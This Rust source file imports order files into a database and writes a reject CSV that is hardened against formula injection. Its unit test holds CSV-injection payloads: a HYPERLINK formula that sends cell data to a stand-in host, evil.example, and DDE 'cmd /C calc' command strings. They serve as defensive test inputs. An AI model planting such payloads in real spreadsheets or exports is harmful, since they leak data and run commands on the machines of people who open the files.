//! `import orders`: an order file into the database through the audited api.
//!
//! A blocking thread reads and checks the file ([`super::reader`]) and hands
//! batches over a bounded channel (two in flight: constant memory); this
//! side sends each batch's good lines to `api.import_order_lines` and
//! quarantines every reject, with `api.quarantine_order_lines` and in the
//! reject file. The whole file is one transaction: a fatal error, an
//! interrupt or `--strict` with a reject leaves the database as it was.

use std::collections::BTreeMap;
use std::fs::File;
use std::io::BufWriter;
use std::path::{Path, PathBuf};
use std::time::Instant;

use anyhow::Context;
use chrono::NaiveDate;
use rust_decimal::Decimal;
use serde::Serialize;
use sqlx::{Connection, PgConnection};
use tokio::sync::mpsc;

use crate::private_file::PrivateDir;

use super::reader::{Checks, FileShape, OrderReader, Reason, Record};

/// How to run one import.
#[derive(Clone, Debug)]
pub struct ImportOptions {
    /// The name the file is recorded under (quarantine, audit).
    pub source: String,
    /// Every line must be this reseller's.
    pub reseller: Option<String>,
    /// Reserve from this warehouse instead of the one serving each reseller.
    pub warehouse: Option<String>,
    /// Any reject rolls the whole import back.
    pub strict: bool,
    /// Lines per api call.
    pub batch_size: usize,
    /// Where the rejected lines are written.
    pub rejects_path: PathBuf,
    /// Latest acceptable order date.
    pub latest_date: NaiveDate,
}

/// What an import did. `read = loaded + duplicates + rejected`.
#[derive(Debug, Default, Serialize)]
pub struct ImportSummary {
    pub file: String,
    /// Data lines read (blank lines aside).
    pub read: u64,
    /// New order lines now in the database.
    pub loaded: u64,
    /// Lines already imported, by an earlier run or earlier in this file.
    pub duplicates: u64,
    pub rejected: u64,
    pub rejected_by_reason: BTreeMap<String, u64>,
    /// False when nothing was kept: `--strict` with a reject.
    pub committed: bool,
    /// Nothing new was loaded (every line already imported or rejected).
    pub nothing_new: bool,
    pub rejects_file: String,
    pub delimiter: String,
    /// `utf-8`, or `latin-1` when some lines were not valid UTF-8.
    pub encoding: String,
    pub seconds: f64,
}

impl ImportSummary {
    /// Nothing was loaded: every line was already imported or rejected
    /// (importing a file again changes nothing but the quarantine).
    pub fn is_noop(&self) -> bool {
        self.loaded == 0
    }

    fn count_reject(&mut self, reason: Reason) {
        self.rejected += 1;
        *self
            .rejected_by_reason
            .entry(reason.as_str().to_string())
            .or_default() += 1;
    }
}

type Batch = anyhow::Result<Vec<Record>>;

/// Import `path` over `conn` (an `etl` login). Errors are fatal: nothing was kept.
pub async fn import_orders(
    conn: &mut PgConnection,
    path: &Path,
    opts: &ImportOptions,
) -> anyhow::Result<ImportSummary> {
    let started = Instant::now();
    // 1. The reader thread: header first, so a bad file fails before any work.
    let file = File::open(path).with_context(|| format!("opening {}", path.display()))?;
    let checks = Checks {
        reseller: opts.reseller.clone(),
        latest_date: opts.latest_date,
    };
    let reader = OrderReader::new(file, checks)
        .with_context(|| format!("reading the header of {}", path.display()))?;
    let (tx, mut rx) = mpsc::channel::<Batch>(2);
    let batch_size = opts.batch_size.max(1);
    let thread = tokio::task::spawn_blocking(move || read_batches(reader, batch_size, tx));

    // 2. One transaction for the whole file.
    let mut rejects = RejectFile::create(&opts.rejects_path)?;
    let mut quarantine = Quarantine::new(&opts.source, batch_size);
    let mut summary = ImportSummary {
        file: opts.source.clone(),
        rejects_file: opts.rejects_path.display().to_string(),
        ..Default::default()
    };
    let mut db = conn.begin().await?;
    while let Some(batch) = rx.recv().await {
        let batch = batch?;
        summary.read += batch.len() as u64;
        let mut out = load_batch(&mut db, opts, &batch, &mut summary).await?;
        out.sort_by_key(|(line, _, _)| *line);
        for (line, reason, detail) in out {
            // Records come in line order: found by bisection.
            let at = batch.binary_search_by_key(&line, |r| r.line).map_err(|_| {
                anyhow::anyhow!("api.import_order_lines answered for line {line}, never sent")
            })?;
            let raw = &batch[at].raw;
            summary.count_reject(reason);
            rejects.write(line, reason, &detail, raw)?;
            quarantine.push(line, raw, reason, detail);
            quarantine.flush_if_full(&mut db).await?;
        }
    }
    let shape: FileShape = thread.await.context("the reader thread")??;
    quarantine.flush(&mut db).await?;

    // 3. Keep it, unless --strict found a reject; the reject file either way.
    summary.committed = !(opts.strict && summary.rejected > 0);
    if summary.committed {
        db.commit().await?;
    } else {
        db.rollback().await?;
    }
    rejects.persist()?;
    summary.delimiter = shape.delimiter.to_string();
    summary.encoding = if shape.latin1_records > 0 {
        "latin-1".into()
    } else {
        "utf-8".into()
    };
    summary.nothing_new = summary.is_noop();
    summary.seconds = started.elapsed().as_secs_f64();
    Ok(summary)
}

/// The reader thread: batches of records until the end of the file.
fn read_batches(
    mut reader: OrderReader<File>,
    size: usize,
    tx: mpsc::Sender<Batch>,
) -> anyhow::Result<FileShape> {
    loop {
        let mut batch = Vec::with_capacity(size);
        while batch.len() < size {
            match reader.next_record() {
                Ok(Some(r)) => batch.push(r),
                Ok(None) => break,
                Err(e) => {
                    let _ = tx.blocking_send(Err(e.context("reading the order file")));
                    return Ok(reader.shape);
                }
            }
        }
        let last = batch.len() < size;
        if !batch.is_empty() && tx.blocking_send(Ok(batch)).is_err() {
            // The importer stopped on an error of its own, which it reports.
            return Ok(reader.shape);
        }
        if last {
            return Ok(reader.shape);
        }
    }
}

/// Send a batch's good lines to the api; return every reject of the batch,
/// the reader's and the api's, and count loaded lines and duplicates.
async fn load_batch(
    db: &mut PgConnection,
    opts: &ImportOptions,
    batch: &[Record],
    summary: &mut ImportSummary,
) -> anyhow::Result<Vec<(u64, Reason, String)>> {
    let mut out = Vec::new();
    let mut cols = Columns::default();
    for r in batch {
        match &r.parsed {
            Ok(l) => {
                cols.lines.push(r.line as i64);
                cols.refs.push(l.order_ref.clone());
                cols.dates.push(l.order_date);
                cols.resellers.push(l.reseller.clone());
                cols.skus.push(l.sku.clone());
                cols.quantities.push(l.quantity);
                cols.prices.push(l.unit_price);
            }
            Err(e) => out.push((r.line, e.reason, e.detail.clone())),
        }
    }
    if cols.lines.is_empty() {
        return Ok(out);
    }
    let sent = cols.lines.len() as u64;
    let answers: Vec<(i64, String, Option<String>)> = sqlx::query_as(
        "SELECT line_number, outcome, detail FROM api.import_order_lines($1, $2, $3, $4, $5, $6, $7, $8, $9)",
    )
    .bind(&opts.source)
    .bind(&cols.lines)
    .bind(&cols.refs)
    .bind(&cols.dates)
    .bind(&cols.resellers)
    .bind(&cols.skus)
    .bind(&cols.quantities)
    .bind(&cols.prices)
    .bind(&opts.warehouse)
    .fetch_all(&mut *db)
    .await
    .context("api.import_order_lines")?;
    let mut not_loaded = 0;
    for (line, outcome, detail) in answers {
        not_loaded += 1;
        if outcome == "duplicate" {
            summary.duplicates += 1;
            continue;
        }
        let reason = Reason::from_api(&outcome).with_context(|| {
            format!("api.import_order_lines answered {outcome:?} for line {line}: upgrade stockops")
        })?;
        out.push((line as u64, reason, detail.unwrap_or_default()));
    }
    summary.loaded += sent - not_loaded;
    Ok(out)
}

/// A batch's good lines as the api takes them: one array per column.
#[derive(Default)]
struct Columns {
    lines: Vec<i64>,
    refs: Vec<String>,
    dates: Vec<NaiveDate>,
    resellers: Vec<String>,
    skus: Vec<String>,
    quantities: Vec<i32>,
    prices: Vec<Decimal>,
}

/// Rejects on their way to `inventory.import_rejects`.
struct Quarantine {
    source: String,
    size: usize,
    lines: Vec<i64>,
    raw: Vec<String>,
    reasons: Vec<&'static str>,
    details: Vec<String>,
}

impl Quarantine {
    fn new(source: &str, size: usize) -> Self {
        Self {
            source: source.to_string(),
            size,
            lines: Vec::new(),
            raw: Vec::new(),
            reasons: Vec::new(),
            details: Vec::new(),
        }
    }

    fn push(&mut self, line: u64, raw: &str, reason: Reason, detail: String) {
        self.lines.push(line as i64);
        self.raw.push(raw.to_string());
        self.reasons.push(reason.as_str());
        self.details.push(detail);
    }

    async fn flush_if_full(&mut self, db: &mut PgConnection) -> anyhow::Result<()> {
        if self.lines.len() >= self.size {
            self.flush(db).await?;
        }
        Ok(())
    }

    async fn flush(&mut self, db: &mut PgConnection) -> anyhow::Result<()> {
        if self.lines.is_empty() {
            return Ok(());
        }
        sqlx::query("SELECT api.quarantine_order_lines($1, $2, $3, $4, $5)")
            .bind(&self.source)
            .bind(&self.lines)
            .bind(&self.raw)
            .bind(&self.reasons)
            .bind(&self.details)
            .execute(&mut *db)
            .await
            .context("api.quarantine_order_lines")?;
        self.lines.clear();
        self.raw.clear();
        self.reasons.clear();
        self.details.clear();
        Ok(())
    }
}

/// The reject file, written in a private directory beside its final name
/// (see [`crate::private_file`]: a symlink planted at a predictable name
/// cannot redirect it) and renamed into place at the end; removed with
/// that directory if the import fails.
struct RejectFile {
    path: PathBuf,
    dir: PrivateDir,
    tmp: PathBuf,
    writer: Option<csv::Writer<BufWriter<File>>>,
}

impl RejectFile {
    fn create(path: &Path) -> anyhow::Result<Self> {
        let dir = PrivateDir::beside(path, "stockops-rejects").with_context(|| {
            format!(
                "creating a private directory beside the reject file {}",
                path.display()
            )
        })?;
        let (tmp, file) = dir
            .create("rejects.csv.partial")
            .with_context(|| format!("creating the reject file in {}", dir.path().display()))?;
        let mut writer = csv::Writer::from_writer(BufWriter::new(file));
        writer.write_record(["line_number", "reason", "detail", "raw_line"])?;
        Ok(Self {
            path: path.to_path_buf(),
            dir,
            tmp,
            writer: Some(writer),
        })
    }

    /// One reject. The text cells are made inert for spreadsheets
    /// ([`spreadsheet_safe`]): the file is opened by people, in Excel.
    fn write(&mut self, line: u64, reason: Reason, detail: &str, raw: &str) -> anyhow::Result<()> {
        let w = self.writer.as_mut().expect("open until persisted");
        w.write_record([
            line.to_string().as_str(),
            reason.as_str(),
            &spreadsheet_safe(detail),
            &spreadsheet_safe(raw),
        ])?;
        Ok(())
    }

    fn persist(mut self) -> anyhow::Result<()> {
        let writer = self.writer.take().expect("open until persisted");
        let file = writer
            .into_inner()
            .map_err(|e| anyhow::anyhow!("writing the reject file: {}", e.error()))?
            .into_inner()
            .map_err(|e| anyhow::anyhow!("writing the reject file: {}", e.error()))?;
        file.sync_all()?;
        std::fs::rename(&self.tmp, &self.path)
            .with_context(|| format!("renaming the reject file to {}", self.path.display()))?;
        let _ = std::fs::remove_dir(self.dir.path());
        Ok(())
    }
}

/// A cell a spreadsheet will show as text, never run as a formula (OWASP's
/// CSV injection guidance): a cell starting with `=`, `+`, `-`, `@`, a tab
/// or a carriage return gets a leading `'`. A cell that is a plain number
/// (`-3`, `-12.50`) is left as it is: a spreadsheet reads it as that
/// number, and a negative quantity or price in a rejected line stays
/// readable. The quarantine table keeps every line exactly as read.
pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_plain_number(cell) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// `-12`, `+3.5`, `-0.25`: a sign, digits, at most one point, digits.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let (whole, frac) = digits.split_once('.').unwrap_or((digits, ""));
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
        && !digits.ends_with('.')
}

/// The default reject file: `FILE.rejects.csv` beside the input.
pub fn default_rejects_path(input: &Path) -> PathBuf {
    let mut name = input.as_os_str().to_owned();
    name.push(".rejects.csv");
    PathBuf::from(name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_numbers_kept() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"invoice\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "-",
            "-1e3",
            "-.5",
            "-3.",
        ] {
            let safe = spreadsheet_safe(formula);
            assert_eq!(safe, format!("'{formula}"), "{formula:?}");
        }
        for kept in ["-3", "-12.50", "+4", "ORD-1,2026-01-02,R001", "", "0.5"] {
            assert_eq!(spreadsheet_safe(kept), kept, "{kept:?}");
        }
    }
}
